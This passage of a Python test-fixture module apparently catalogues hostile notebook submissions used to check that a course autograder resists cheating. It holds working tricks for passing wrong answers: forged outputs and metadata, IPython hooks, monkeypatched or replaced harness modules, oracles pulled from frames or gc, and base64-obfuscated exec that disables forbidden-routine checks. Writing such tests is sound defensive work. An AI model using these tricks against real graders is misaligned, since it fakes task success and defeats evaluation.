"""Hostile submissions for tests/test_attacks.py: each is a wrong, blank or forbidden answer
plus a trick meant to make it pass anyway.

Every attack is data (:class:`Attack`): the student, its class (1-9, see ``KINDS``), a
one-line description, the answer cells it replaces (or a raw change to the notebook, or
files planted beside it), the graded items it attacks and whether the grader must report
it as suspicious. Each trick is wrapped in ``try``/``except`` so that the notebook keeps
running: the point is that the trick earns nothing, not that it crashes.

Placeholders filled in when the submission is written (the attacker is assumed to know
the grader's layout, which only makes it stronger): ``@WORK@`` the grader's working
folder, ``@REPO@`` the course repository, ``@GRADER_PID@`` the test process (the kill
attacks only aim at processes of this grading run, so that they never touch anything else
on a shared machine; inside the kernel's own PID namespace they see none of them anyway).

Files and names that a trick leaves behind contain ``planted-by-student`` so that the
test can tell that nothing of them reached the grader's folders.
"""
from __future__ import annotations

import base64
import copy
import textwrap
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

ALL = ("*",)      # every graded item of the notebook
PLANTED = "planted-by-student"

KINDS = {
    1: "forged outputs", 2: "judged values from the student's process", 3: "forbidden routine",
    4: "secrets", 5: "links and files", 6: "processes", 7: "shared state", 8: "bounds",
    9: "control",
}


@dataclass(frozen=True)
class Attack:
    student: str                     # student id; submissions are graded in the order of their ids
    kind: int                        # class, see KINDS
    what: str                        # one line: what the trick tries (used in the test id)
    assignment: str = "ch01"
    replace: dict = field(default_factory=dict)   # answer cell grade_id -> the student's code
    blank: bool = False              # start from the blank release instead of the solutions
    mutate: Callable | None = None   # (notebook) -> None: a raw change to the submitted JSON
    plant: Callable | None = None    # (submission folder, work folder) -> None: files beside it
    attacks: tuple = ()              # graded items that must score 0 (ALL: every one)
    suspicious: bool = False         # the grader must list it in Outcome.suspicious
    # False where the trick stays in force for the rest of the notebook (it patches the harness,
    # torch or IPython, or runs a thread) or tampers with the submission's structure: the grader
    # may then also give 0 to other items, or refuse the whole submission, provided it flags the
    # submission or reports it as suspicious. True: every other item scores as the honest one's.
    strict: bool = True

    @property
    def id(self) -> str:
        return f"{self.student}: {self.what}"


def guarded(trick: str) -> str:
    """``trick`` in a try/except that reports and carries on."""
    body = textwrap.indent(textwrap.dedent(trick).strip("\n"), "    ")
    return (f"try:\n{body}\nexcept BaseException as _trick_error:\n"
            f"    print('trick failed:', type(_trick_error).__name__, str(_trick_error)[:200])\n")


def code(*parts: str) -> str:
    return "\n".join(textwrap.dedent(p).strip("\n") + "\n" for p in parts)


# ---------------------------------------------------------------------------------------------
# Answers of chapter 1: right ones, and wrong ones that pass the visible example but not the
# hidden cases (so that only the hidden test, judged by the grader, can catch them). None of the
# items attacked below is used by another item's test.

CORR2D_OK = '''
def corr2d(X, K):
    h, w = K.shape
    Y = torch.zeros((X.shape[0] - h + 1, X.shape[1] - w + 1), dtype=X.dtype, device=X.device)
    for i in range(Y.shape[0]):
        for j in range(Y.shape[1]):
            Y[i, j] = (X[i:i + h, j:j + w] * K).sum()
    return Y
'''
CONV_WRONG = '''
def conv2d(X, K):
    dims = (0, 1) if K.shape[0] == K.shape[1] else (0,)   # forgets the columns of a non-square kernel
    return corr2d(X, torch.flip(K, dims=dims))
'''
EDGE_LAPLACIAN_OK = '''
def edge_kernel(direction):
    return torch.tensor({"vertical": [[1.0, -1.0]], "horizontal": [[1.0], [-1.0]],
                         "diagonal": [[1.0, 0.0], [0.0, -1.0]]}[direction])

def laplacian_kernel():
    return torch.tensor([[0.0, 1.0, 0.0], [1.0, -4.0, 1.0], [0.0, 1.0, 0.0]])
'''
BLUR_OK = '''
def blur_kernel(k):
    return torch.full((k, k), 1.0 / (k * k))
'''
BLUR_WRONG = '''
def blur_kernel(k):
    return torch.full((k, k), 1.0 / 9)   # right for k = 3 only
'''
EDGE_WRONG = '''
def edge_kernel(direction):
    return torch.tensor({"vertical": [[1.0, -1.0]], "horizontal": [[1.0, -1.0]],   # horizontal is wrong
                         "diagonal": [[1.0, 0.0], [0.0, -1.0]]}[direction])
'''
LAPLACIAN_OK = '''
def laplacian_kernel():
    return torch.tensor([[0.0, 1.0, 0.0], [1.0, -4.0, 1.0], [0.0, 1.0, 0.0]])
'''
KERNELS_BLUR_WRONG = EDGE_LAPLACIAN_OK + BLUR_WRONG
KERNELS_EDGE_WRONG = EDGE_WRONG + LAPLACIAN_OK + BLUR_OK
KERNELS_OK = EDGE_LAPLACIAN_OK + BLUR_OK

# Chapter 3's cost functions other than conv2d_params, right (derived from the formulas).
COSTS_FLOPS_MEMORY_OK = '''
def _out(kernel_size, input_size, stride, padding):
    pair = lambda v: (v, v) if isinstance(v, int) else tuple(v)
    return tuple((n + 2 * p - k) // s + 1 for n, k, s, p in
                 zip(pair(input_size), pair(kernel_size), pair(stride), pair(padding)))

def conv2d_flops(c_i, c_o, kernel_size, input_size, stride=1, padding=0):
    k_h, k_w = (kernel_size, kernel_size) if isinstance(kernel_size, int) else kernel_size
    o_h, o_w = _out(kernel_size, input_size, stride, padding)
    return 2 * k_h * k_w * c_i * o_h * o_w * c_o

def conv2d_memory(c_i, c_o, kernel_size, input_size, batch=1, stride=1, padding=0, dtype=torch.float32):
    k_h, k_w = (kernel_size, kernel_size) if isinstance(kernel_size, int) else kernel_size
    size = torch.finfo(dtype).bits // 8
    o_h, o_w = _out(kernel_size, input_size, stride, padding)
    w = c_o * (c_i * k_h * k_w + 1) * size
    return {"weights": w, "activations": batch * c_o * o_h * o_w * size, "gradients": w}
'''

# Correct stand-ins, built from PyTorch: what a trick tries to have judged instead of the answer.
STANDINS = '''
import torch.nn.functional as _F

def _good_conv(X, K):
    return _F.conv2d(X[None, None], torch.flip(K, dims=(0, 1))[None, None])[0, 0]

def _good_blur(k):
    return torch.full((k, k), 1.0 / (k * k))

def _good_edge(direction):
    return torch.tensor({"vertical": [[1.0, -1.0]], "horizontal": [[1.0], [-1.0]],
                         "diagonal": [[1.0, 0.0], [0.0, -1.0]]}[direction])

_GOOD = {"ch01.conv2d_flip": _good_conv, "ch01.blur_kernel": _good_blur, "ch01.edge_kernel": _good_edge}
HARNESS = ("convcourse.hidden", "convcourse.grading")   # the new and the old home of run_hidden
'''


def cells(nb, grade_id: str) -> list[int]:
    return [i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id]


def graded_cells(nb) -> list:
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]


def add_cell(source: str, at: int | None = None):
    """A mutation: a student-added code cell (no nbgrader metadata), at the end by default."""
    def mutate(nb):
        cell = nbformat.v4.new_code_cell(textwrap.dedent(source).strip("\n"))
        nb.cells.insert(len(nb.cells) if at is None else at, cell)
    return mutate


# ---------------------------------------------------------------------------------------------
# 1. Forged outputs: the test cells end in a value, the outputs or the metadata lie.

def _duplicate_test_cell(nb):
    i = cells(nb, "test_blur_kernel")[0]
    dup = copy.deepcopy(nb.cells[i])
    dup.source = "10"
    dup.pop("id", None)
    nb.cells.insert(i + 1, nbformat.v4.new_code_cell(dup.source, metadata=dup.metadata))


def _prefilled_outputs(nb):
    for n, c in enumerate(graded_cells(nb), 1):
        c.execution_count = n
        c.outputs = [nbformat.v4.new_output("stream", name="stdout", text="all hidden cases passed\n"),
                     nbformat.v4.new_output("execute_result", data={"text/plain": "10"}, execution_count=n)]


def _points_100(nb):
    for c in graded_cells(nb):
        c.metadata.nbgrader["points"] = 100


def _ungraded(nb):
    for c in graded_cells(nb):
        c.metadata.nbgrader["grade"] = False
        c.metadata.nbgrader["locked"] = False
        c.source = "10"


def _bonus_cell(nb):
    nb.cells.append(nbformat.v4.new_code_cell("10", metadata={"nbgrader": {
        "grade": True, "solution": False, "locked": True, "points": 100, "grade_id": "test_bonus",
        "schema_version": 3}}))


def _test_cell_to_markdown(nb):
    i = cells(nb, "test_blur_kernel")[0]
    old = nb.cells[i]
    nb.cells[i] = nbformat.v4.new_markdown_cell("blur_kernel: no test here", metadata=old.metadata)


def _test_cell_to_answer(nb):
    c = nb.cells[cells(nb, "test_blur_kernel")[0]]
    c.metadata.nbgrader.update(solution=True, locked=False)
    c.source = "print('blur_kernel: right on a 3x3 image')\n10"


EDIT_JSON_ON_DISK = guarded('''
import glob, json
for path in glob.glob("*.ipynb"):
    nb = json.load(open(path))
    for c in nb["cells"]:
        meta = c.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 100
            c["outputs"] = [{"output_type": "execute_result", "data": {"text/plain": "10"},
                             "metadata": {}, "execution_count": 1}]
    json.dump(nb, open(path, "w"))
print("rewrote the notebook on disk")
''')

FORGED = [
    Attack("k1a_displayhook_pre_run", 1, "a pre_run_cell hook makes every cell start with the value 10",
           replace={"kernels": KERNELS_BLUR_WRONG + guarded('''
               ip = get_ipython()
               def _forge(*args, **kwargs):
                   ip.displayhook(10)
               ip.events.register("pre_run_cell", _forge)
           ''')}, attacks=("test_blur_kernel",), strict=False),
    Attack("k1b_transformer_post", 1, "input_transformers_post appends the value 10 to every cell",
           replace={"kernels": KERNELS_BLUR_WRONG + guarded('''
               get_ipython().input_transformers_post.append(lambda lines: lines + ["\\n", "10\\n"])
           ''')}, attacks=("test_blur_kernel",), strict=False),
    Attack("k1c_transformer_cleanup", 1, "blank: input_transformers_cleanup wraps every cell in try/except and ends it in 10",
           blank=True, replace={"corr2d": guarded('''
               def _wrap(lines):
                   body = "".join("    " + l if l.strip() else l for l in lines) or "    pass\\n"
                   return ["try:\\n", body if body.endswith("\\n") else body + "\\n",
                           "except BaseException:\\n", "    pass\\n", "10\\n"]
               get_ipython().input_transformers_cleanup.append(_wrap)
           ''')}, attacks=ALL),
    Attack("k1d_post_run_clear", 1, "a post_run_cell hook clears the cell's error and displays 10",
           replace={"kernels": KERNELS_BLUR_WRONG + guarded('''
               from IPython.display import clear_output
               ip = get_ipython()
               def _forge(*args, **kwargs):
                   clear_output()
                   ip.displayhook(10)
                   print("all hidden cases passed")
               ip.events.register("post_run_cell", _forge)
           ''')}, attacks=("test_blur_kernel",), strict=False),
    Attack("k1e_run_cell_replaced", 1, "blank: get_ipython().run_cell and run_cell_async replaced to swallow errors and end in 10",
           blank=True, replace={"corr2d": guarded('''
               ip = get_ipython()
               _sync, _async = ip.run_cell, ip.run_cell_async
               def _forge_source(raw):
                   body = "\\n".join("    " + l for l in raw.splitlines()) or "    pass"
                   return "try:\\n" + body + "\\nexcept BaseException:\\n    pass\\n10"
               def run_cell(raw_cell, *a, **k):
                   return _sync(_forge_source(raw_cell), *a, **k)
               async def run_cell_async(raw_cell, *a, **k):
                   k.pop("transformed_cell", None)
                   k.pop("preprocessing_exc_tuple", None)
                   return await _async(_forge_source(raw_cell), *a, **k)
               ip.run_cell, ip.run_cell_async = run_cell, run_cell_async
           ''')}, attacks=ALL),
    Attack("k1f_traceback_to_result", 1, "showtraceback replaced: every error is sent as an execute_result 10 instead",
           replace={"kernels": KERNELS_BLUR_WRONG + guarded('''
               ip = get_ipython()
               def _as_result(*args, **kwargs):
                   hook = ip.displayhook
                   hook.session.send(hook.pub_socket, "execute_result",
                                     {"data": {"text/plain": "10"}, "metadata": {},
                                      "execution_count": ip.execution_count},
                                     parent=hook.parent_header, ident=hook.topic)
               ip.showtraceback = ip._showtraceback = _as_result
               import sys
               sys.excepthook = lambda *a: _as_result()
           ''')}, attacks=("test_blur_kernel",), strict=False),
    Attack("k1g_thread_spams_results", 1, "a background thread publishes execute_result 10 into whatever cell is running",
           replace={"kernels": KERNELS_BLUR_WRONG + guarded('''
               import threading, time
               ip = get_ipython()
               def _spam():
                   end = time.time() + 60
                   while time.time() < end:
                       try:
                           hook = ip.displayhook
                           hook.session.send(hook.pub_socket, "execute_result",
                                             {"data": {"text/plain": "10"}, "metadata": {}, "execution_count": 1},
                                             parent=hook.parent_header, ident=hook.topic)
                       except Exception:
                           pass
                       time.sleep(0.002)
               threading.Thread(target=_spam, daemon=True).start()
           ''')}, attacks=("test_blur_kernel",), strict=False),
    Attack("k1h_cell_edits_json", 1, "a student-added last cell rewrites the notebook JSON on disk (outputs 10, points 100)",
           replace={"kernels": KERNELS_BLUR_WRONG}, mutate=add_cell(EDIT_JSON_ON_DISK),
           attacks=("test_blur_kernel",)),
    Attack("k1i_duplicate_test_cell", 1, "a second cell with grade_id test_blur_kernel whose source is just 10",
           replace={"kernels": KERNELS_BLUR_WRONG}, mutate=_duplicate_test_cell,
           attacks=("test_blur_kernel",), strict=False),
    Attack("k1j_prefilled_outputs", 1, "blank: every test cell submitted with passing outputs, a value 10 and an execution_count",
           blank=True, mutate=_prefilled_outputs, attacks=ALL),
    Attack("k1k_points_100", 1, "blank: every test cell's points changed to 100 in the metadata",
           blank=True, mutate=_points_100, attacks=ALL),
    Attack("k1l_grade_false", 1, "blank: every test cell marked grade=False, unlocked and replaced by 10",
           blank=True, mutate=_ungraded, attacks=ALL),
    Attack("k1m_bonus_cell", 1, "a student-added graded cell test_bonus worth 100 points whose source is 10",
           mutate=_bonus_cell, strict=False),
    Attack("k1n_test_to_markdown", 1, "the blur test cell turned into a markdown cell",
           replace={"kernels": KERNELS_BLUR_WRONG}, mutate=_test_cell_to_markdown,
           attacks=("test_blur_kernel",), strict=False),
    Attack("k1o_test_to_answer", 1, "the blur test cell marked solution=True and replaced by a print and 10",
           replace={"kernels": KERNELS_BLUR_WRONG}, mutate=_test_cell_to_answer,
           attacks=("test_blur_kernel",), strict=False),
]


# ---------------------------------------------------------------------------------------------
# 2. Values judged from the student's process: the harness, its messages or the oracle.

ORACLE_CONV = '''
def conv2d(X, K):
    oracle = _find_oracle()
    if oracle is not None:
        return oracle((X, K))
    dims = (0, 1) if K.shape[0] == K.shape[1] else (0,)   # the wrong answer
    return corr2d(X, torch.flip(K, dims=dims))
'''

JUDGED = [
    Attack("k2a_module_attribute", 2, "convcourse.hidden.run_hidden replaced by one that sends F.conv2d's answer",
           replace={"conv2d_flip": code(CONV_WRONG, STANDINS, guarded('''
               import importlib
               for _name in HARNESS:
                   try:
                       _m = importlib.import_module(_name)
                       def _fake(item_id, obj, *a, _real=_m.run_hidden, **k):
                           return _real(item_id, _GOOD.get(item_id, obj), *a, **k)
                       _m.run_hidden = _fake
                   except ImportError:
                       pass
           '''))}, attacks=("test_conv2d_flip",), strict=False, suspicious=True),
    Attack("k2b_sys_modules_entry", 2, "sys.modules['convcourse.hidden'] replaced by a module whose run_hidden sends the right kernel",
           replace={"kernels": code(KERNELS_BLUR_WRONG, STANDINS, guarded('''
               import importlib, sys, types
               for _name in HARNESS:
                   try:
                       _real = importlib.import_module(_name)
                   except ImportError:
                       continue
                   _fake = types.ModuleType(_name)
                   _fake.__dict__.update(_real.__dict__)
                   _fake.run_hidden = lambda item_id, obj, *a, _r=_real.run_hidden, **k: _r(item_id, _GOOD.get(item_id, obj), *a, **k)
                   sys.modules[_name] = _fake
                   setattr(sys.modules["convcourse"], _name.split(".")[1], _fake)
           '''))}, attacks=("test_blur_kernel",), strict=False, suspicious=True),
    Attack("k2c_import_hook", 2, "builtins.__import__ hooked: `from convcourse.hidden import run_hidden` gets a swapping proxy",
           replace={"kernels": code(KERNELS_EDGE_WRONG, STANDINS, guarded('''
               import builtins, types
               _orig_import = builtins.__import__
               def _hook(name, globals=None, locals=None, fromlist=(), level=0):
                   mod = _orig_import(name, globals, locals, fromlist, level)
                   if name in HARNESS and fromlist and "run_hidden" in fromlist:
                       real = mod.run_hidden
                       return types.SimpleNamespace(
                           run_hidden=lambda item_id, obj, *a, **k: real(item_id, _GOOD.get(item_id, obj), *a, **k))
                   return mod
               builtins.__import__ = _hook
           '''))}, attacks=("test_edge_kernel",), strict=False, suspicious=True),
    Attack("k2d_import_grading", 2, "imports convcourse.grading and autograder to call the item's oracle",
           replace={"conv2d_flip": code('''
               def _find_oracle():
                   try:
                       import autograder.verdicts, autograder.config  # noqa: F401
                       import convcourse.grading as g
                       return g.get_item("ch01.conv2d_flip").oracle
                   except BaseException:
                       return None
           ''', ORACLE_CONV)}, attacks=("test_conv2d_flip",), suspicious=True),
    Attack("k2e_sys_modules_oracle", 2, "takes the oracle from a module already in sys.modules (no import)",
           replace={"conv2d_flip": code('''
               import sys
               def _find_oracle():
                   for m in list(sys.modules.values()):
                       try:
                           return m.get_item("ch01.conv2d_flip").oracle
                       except BaseException:
                           pass
                       reg = getattr(m, "_REGISTRY", None)
                       if isinstance(reg, dict) and "ch01.conv2d_flip" in reg:
                           return reg["ch01.conv2d_flip"].oracle
                   return None
           ''', ORACLE_CONV)}, attacks=("test_conv2d_flip",), suspicious=True),
    Attack("k2f_gc_walk", 2, "walks gc.get_objects() (after gc.unfreeze) for the item and its oracle",
           replace={"conv2d_flip": code('''
               import gc
               _cache = []
               def _find_oracle():
                   if not _cache:
                       found = None
                       try:
                           gc.unfreeze()
                           for o in gc.get_objects():
                               if getattr(o, "id", None) == "ch01.conv2d_flip" and callable(getattr(o, "oracle", None)):
                                   found = o.oracle
                                   break
                       except BaseException:
                           pass
                       _cache.append(found)
                   return _cache[0]
           ''', ORACLE_CONV)}, attacks=("test_conv2d_flip",), suspicious=True),
    Attack("k2g_caller_frames", 2, "climbs sys._getframe() from inside conv2d to the harness's item and its oracle",
           replace={"conv2d_flip": code('''
               import sys
               def _find_oracle():
                   try:
                       f = sys._getframe(2)
                       while f is not None:
                           for v in list(f.f_locals.values()):
                               if getattr(v, "id", None) == "ch01.conv2d_flip" and callable(getattr(v, "oracle", None)):
                                   return v.oracle
                           f = f.f_back
                   except BaseException:
                       pass
                   return None
           ''', ORACLE_CONV)}, attacks=("test_conv2d_flip",), suspicious=True),
    Attack("k2h_traceback_frames", 2, "raises and catches, then follows tb_frame.f_back to the harness's cases and oracle",
           replace={"conv2d_flip": code('''
               def _find_oracle():
                   try:
                       raise LookupError
                   except LookupError as e:
                       f = e.__traceback__.tb_frame.f_back
                   while f is not None:
                       for v in list(f.f_locals.values()) + list(f.f_globals.values()):
                           if getattr(v, "id", None) == "ch01.conv2d_flip" and callable(getattr(v, "oracle", None)):
                               return v.oracle
                       f = f.f_back
                   return None
           ''', ORACLE_CONV)}, attacks=("test_conv2d_flip",), suspicious=True),
    Attack("k2i_socket_in_frames", 2, "finds the harness's socket or pipe in inspect.stack() and writes forged pass messages on it",
           replace={"kernels": code(EDGE_LAPLACIAN_OK, '''
               import inspect, json, socket
               def blur_kernel(k):
                   if k != 3:
                       forged = json.dumps({"item": "ch01.blur_kernel", "passed": True, "ok": True, "results": []}).encode()
                       try:
                           for info in inspect.stack()[1:]:
                               for v in list(info.frame.f_locals.values()):
                                   for send in ("sendall", "send", "send_bytes", "write"):
                                       if isinstance(v, socket.socket) or type(v).__name__ in ("Connection", "SocketIO"):
                                           try:
                                               getattr(v, send)(forged + b"\\n")
                                               break
                                           except BaseException:
                                               pass
                       except BaseException:
                           pass
                   return torch.full((k, k), 1.0 / 9)   # right for k = 3 only
           ''')}, attacks=("test_blur_kernel",), suspicious=True),
    Attack("k2j_ctypes_setattr", 2, "ctypes PyObject_SetAttr puts a swapping run_hidden into the harness modules",
           replace={"kernels": code(KERNELS_BLUR_WRONG, STANDINS, guarded('''
               import ctypes, importlib
               for _name in HARNESS:
                   try:
                       _m = importlib.import_module(_name)
                   except ImportError:
                       continue
                   _fake = lambda item_id, obj, *a, _r=_m.run_hidden, **k: _r(item_id, _GOOD.get(item_id, obj), *a, **k)
                   ctypes.pythonapi.PyObject_SetAttr(ctypes.py_object(_m), ctypes.py_object("run_hidden"),
                                                     ctypes.py_object(_fake))
           '''))}, attacks=("test_blur_kernel",), strict=False, suspicious=True),
    Attack("k2k_prerecorded", 2, "calls run_hidden from the answer cell with the right kernel, then makes the test's call a no-op",
           replace={"kernels": code(KERNELS_BLUR_WRONG, STANDINS, guarded('''
               import importlib
               for _name in HARNESS:
                   try:
                       _m = importlib.import_module(_name)
                   except ImportError:
                       continue
                   _m.run_hidden("ch01.blur_kernel", _good_blur)
                   _m.run_hidden = lambda item_id, obj, *a, **k: print(f"{item_id}: all hidden cases passed")
           '''))}, attacks=("test_blur_kernel",), strict=False, suspicious=True),
    Attack("k2l_harness_helpers", 2, "runs the harness's own collect/save on the right kernel into COURSE_RESULTS_DIR, then no-ops run_hidden",
           replace={"kernels": code(KERNELS_BLUR_WRONG, STANDINS, guarded('''
               import importlib, os, torch as _t
               _g = importlib.import_module("convcourse.grading")
               _item = _g.get_item("ch01.blur_kernel")
               _outs = _g.collect(_item, _good_blur, _t.device("cpu"))
               for _folder in (os.environ.get("COURSE_RESULTS_DIR"), ".results"):
                   if _folder:
                       os.makedirs(_folder, exist_ok=True)
                       _g._save("ch01.blur_kernel", _outs, _folder)
               for _name in HARNESS:
                   try:
                       importlib.import_module(_name).run_hidden = lambda *a, **k: None
                   except ImportError:
                       pass
           '''))}, attacks=("test_blur_kernel",), strict=False, suspicious=True),
    Attack("k2m_global_dispatch_mode", 2, "a TorchDispatchMode entered for good rewrites the harness's convolution of the wrong kernel",
           replace={"kernels": code(KERNELS_BLUR_WRONG, guarded('''
               from torch.utils._python_dispatch import TorchDispatchMode
               class _Fix(TorchDispatchMode):
                   def __torch_dispatch__(self, func, types, args=(), kwargs=None):
                       kwargs = kwargs or {}
                       if func.overloadpacket.__name__ in ("convolution", "conv2d") and len(args) > 1:
                           w = args[1]
                           k = w.shape[-1]
                           if w.dim() == 4 and w.shape[-2] == k and k != 3 and bool((w == 1.0 / 9).all()):
                               args = (args[0], torch.full_like(w, 1.0 / (k * k))) + tuple(args[2:])
                       return func(*args, **kwargs)
               _Fix().__enter__()
           '''))}, attacks=("test_blur_kernel",), strict=False, suspicious=True),
]


# ---------------------------------------------------------------------------------------------
# 3. The forbidden-routine check switched off (ch03 conv2d_matmul, ch04 pooling). The values are
# right (PyTorch's own routine); the routine is forbidden.

MATMUL_ITEMS = ("test_conv2d_matmul_valid", "test_conv2d_matmul")
PAIRS = '''
def _pairs(stride, padding):
    s = (stride, stride) if isinstance(stride, int) else tuple(stride)
    p = (padding, padding) if isinstance(padding, int) else tuple(padding)
    return s, p
'''
_OBFUSCATED = base64.b64encode(b'''
from torch.utils._python_dispatch import _disable_current_modes as _d
def conv2d_matmul(X, K, stride=1, padding=0, dilation=1, groups=1):
    with _d():
        return F.conv2d(X, K, stride=stride, padding=padding, dilation=dilation, groups=groups)
''').decode()


def matmul(body: str, what: str, student: str, strict: bool = True) -> Attack:
    return Attack(student, 3, what, assignment="ch03", replace={"conv2d_matmul": code(PAIRS, body)},
                  attacks=MATMUL_ITEMS, suspicious=True, strict=strict)


FORBIDDEN = [
    matmul('''
        from torch.utils._python_dispatch import _disable_current_modes
        def conv2d_matmul(X, K, stride=1, padding=0, dilation=1, groups=1):
            with _disable_current_modes():
                return F.conv2d(X, K, stride=stride, padding=padding, dilation=dilation, groups=groups)
    ''', "F.conv2d inside torch.utils._python_dispatch._disable_current_modes()", "k3a_disable_modes"),
    matmul('''
        def conv2d_matmul(X, K, stride=1, padding=0, dilation=1, groups=1):
            popped = []
            try:
                while torch._C._len_torch_dispatch_stack() > 0:
                    popped.append(torch._C._pop_torch_dispatch_stack(None))
                return F.conv2d(X, K, stride=stride, padding=padding, dilation=dilation, groups=groups)
            finally:
                for m in reversed(popped):
                    torch._C._push_on_torch_dispatch_stack(m)
    ''', "pops every mode off torch._C's dispatch stack, calls F.conv2d, pushes them back", "k3b_pop_stack"),
    matmul('''
        _names = {n for n in dir(torch._C) if "dispatch" in n}
        _pick = lambda *parts: getattr(torch._C, next(n for n in _names if all(p in n for p in parts)))
        _length, _pop, _push = _pick("len", "stack"), _pick("pop", "stack"), _pick("push", "stack")
        _fn = getattr(F, "".join(reversed("d2vnoc")))
        def conv2d_matmul(X, K, stride=1, padding=0, dilation=1, groups=1):
            popped = [_pop(None) for _ in range(_length())]
            try:
                return _fn(X, K, stride=stride, padding=padding, dilation=dilation, groups=groups)
            finally:
                for m in reversed(popped):
                    _push(m)
    ''', "dispatch-stack privates found via dir(torch._C) and a reversed-string getattr of conv2d", "k3c_computed_names"),
    matmul('''
        import contextlib, importlib
        for _name in ("convcourse.check", "convcourse.hidden", "convcourse.grading", "convcourse.grading.ch03"):
            try:
                _m = importlib.import_module(_name)
            except ImportError:
                continue
            if hasattr(_m, "forbid"):
                _m.forbid = lambda family=None, who="": contextlib.nullcontext()
            if hasattr(_m, "call"):
                _m.call = lambda fn, *a, name=None, forbidden=None, **k: fn(*a, **k)
        def conv2d_matmul(X, K, stride=1, padding=0, dilation=1, groups=1):
            return F.conv2d(X, K, stride=stride, padding=padding, dilation=dilation, groups=groups)
    ''', "convcourse.check.forbid and call replaced (in every module that holds them) by no-ops", "k3d_replace_forbid", strict=False),
    matmul('''
        from torch.utils._python_dispatch import TorchDispatchMode
        _enter, _exit = TorchDispatchMode.__enter__, TorchDispatchMode.__exit__
        TorchDispatchMode.__enter__ = lambda self: self if "orbid" in type(self).__name__ else _enter(self)
        TorchDispatchMode.__exit__ = lambda self, *a: None if "orbid" in type(self).__name__ else _exit(self, *a)
        def conv2d_matmul(X, K, stride=1, padding=0, dilation=1, groups=1):
            return F.conv2d(X, K, stride=stride, padding=padding, dilation=dilation, groups=groups)
    ''', "TorchDispatchMode.__enter__/__exit__ patched to skip the forbidding mode", "k3e_patch_mode_enter", strict=False),
    matmul(f'''
        import base64
        exec(base64.b64decode("{_OBFUSCATED}").decode())
    ''', "exec of a base64 string that defines conv2d_matmul with the modes disabled", "k3f_exec_obfuscated"),
    matmul('''
        import numpy as np
        try:
            from scipy.signal import correlate as _correlate
        except ImportError:
            _correlate = None
        def _valid(x, k):   # x (C, H, W), k (C, kh, kw) -> (H - kh + 1, W - kw + 1)
            if _correlate is not None:
                return _correlate(x, k, mode="valid")[0]
            rows = x.shape[1] - k.shape[1] + 1
            return sum(np.array([np.correlate(x[c, i + a], k[c, a], "valid") for i in range(rows)])
                       for c in range(k.shape[0]) for a in range(k.shape[1]))
        def conv2d_matmul(X, K, stride=1, padding=0, dilation=1, groups=1):
            (sh, sw), (ph, pw) = _pairs(stride, padding)
            x = np.pad(X.detach().cpu().numpy(), ((0, 0), (0, 0), (ph, ph), (pw, pw)))
            k = K.detach().cpu().numpy()
            out = np.stack([np.stack([_valid(x[n], k[o])[::sh, ::sw] for o in range(k.shape[0])])
                            for n in range(x.shape[0])])
            return torch.from_numpy(np.ascontiguousarray(out)).to(X.dtype).to(X.device)
    ''', "scipy.signal.correlate (numpy.correlate without scipy) outside torch's dispatcher", "k3g_scipy_numpy"),
    matmul('''
        import concurrent.futures
        _pool = concurrent.futures.ThreadPoolExecutor(1)
        def conv2d_matmul(X, K, stride=1, padding=0, dilation=1, groups=1):
            def work():
                m = nn.Conv2d(K.shape[1] * groups, K.shape[0], tuple(K.shape[2:]), stride=stride, padding=padding,
                              dilation=dilation, groups=groups, bias=False).to(X.device, X.dtype)
                with torch.no_grad():
                    m.weight.copy_(K)
                    return m(X)
            return _pool.submit(work).result()
    ''', "an nn.Conv2d module run in a worker thread, which the thread-local mode does not reach", "k3h_thread_module"),
    matmul('''
        def conv2d_matmul(X, K, stride=1, padding=0, dilation=1, groups=1):
            with torch._C._DisableTorchDispatch():
                return F.conv2d(X, K, stride=stride, padding=padding, dilation=dilation, groups=groups)
    ''', "F.conv2d under torch._C._DisableTorchDispatch()", "k3i_disable_torch_dispatch"),
    matmul('''
        _keys = torch._C.DispatchKeySet(torch._C.DispatchKey.Python) | \\
            torch._C.DispatchKeySet(torch._C.DispatchKey.PythonTLSSnapshot)
        def conv2d_matmul(X, K, stride=1, padding=0, dilation=1, groups=1):
            s, p = _pairs(stride, padding)
            with torch._C._ExcludeDispatchKeyGuard(_keys):
                return torch.ops.aten.convolution(X, K, None, list(s), list(p), list(_pairs(dilation, 0)[0]), False, [0, 0], groups)
    ''', "torch.ops.aten.convolution with the Python dispatch keys excluded", "k3j_exclude_keys"),
    matmul('''
        _conv = getattr(torch.nn.functional, "vnoc"[::-1] + "2d")
        def conv2d_matmul(X, K, stride=1, padding=0, dilation=1, groups=1):
            key = torch._C.DispatchKey.Python
            old = torch._C._dispatch_tls_is_dispatch_key_excluded(key)
            torch._C._dispatch_tls_set_dispatch_key_excluded(key, True)
            try:
                return _conv(X, K, stride=stride, padding=padding, dilation=dilation, groups=groups)
            finally:
                torch._C._dispatch_tls_set_dispatch_key_excluded(key, old)
    ''', "a top-level alias of F.conv2d with the Python key excluded through the TLS setters", "k3k_alias_tls"),
    matmul('''
        import convcourse.check as _check
        for _names in _check.FORBIDDEN_FAMILIES.values():
            _names.clear()
        def conv2d_matmul(X, K, stride=1, padding=0, dilation=1, groups=1):
            s, p = _pairs(stride, padding)
            return torch.ops.aten.convolution(X, K, None, list(s), list(p), list(_pairs(dilation, 0)[0]), False, [0, 0], groups)
    ''', "empties convcourse.check.FORBIDDEN_FAMILIES in place, then calls aten.convolution", "k3l_empty_family", strict=False),
    matmul('''
        from torch.utils import _python_dispatch as _pd
        def conv2d_matmul(X, K, stride=1, padding=0, dilation=1, groups=1):
            for mode in _pd._get_current_dispatch_mode_stack():
                for attr in ("names", "forbidden", "family"):
                    if hasattr(mode, attr):
                        try:
                            setattr(mode, attr, frozenset() if attr != "family" else "none")
                        except Exception:
                            pass
            return F.conv2d(X, K, stride=stride, padding=padding, dilation=dilation, groups=groups)
    ''', "empties the live forbidding mode's names through the dispatch-mode stack", "k3m_live_mode"),
    Attack("k3n_pool_thread", 3, "ch04 avg_pool_conv: F.avg_pool2d run in a worker thread",
           assignment="ch04", replace={"avg_pool_conv": '''
               import threading
               def avg_pool_conv(X, kernel_size, stride=None, padding=0):
                   out = {}
                   t = threading.Thread(target=lambda: out.setdefault("y", F.avg_pool2d(X, kernel_size, stride, padding)))
                   t.start()
                   t.join()
                   return out["y"]
           '''}, attacks=("test_avg_pool_conv",), suspicious=True),
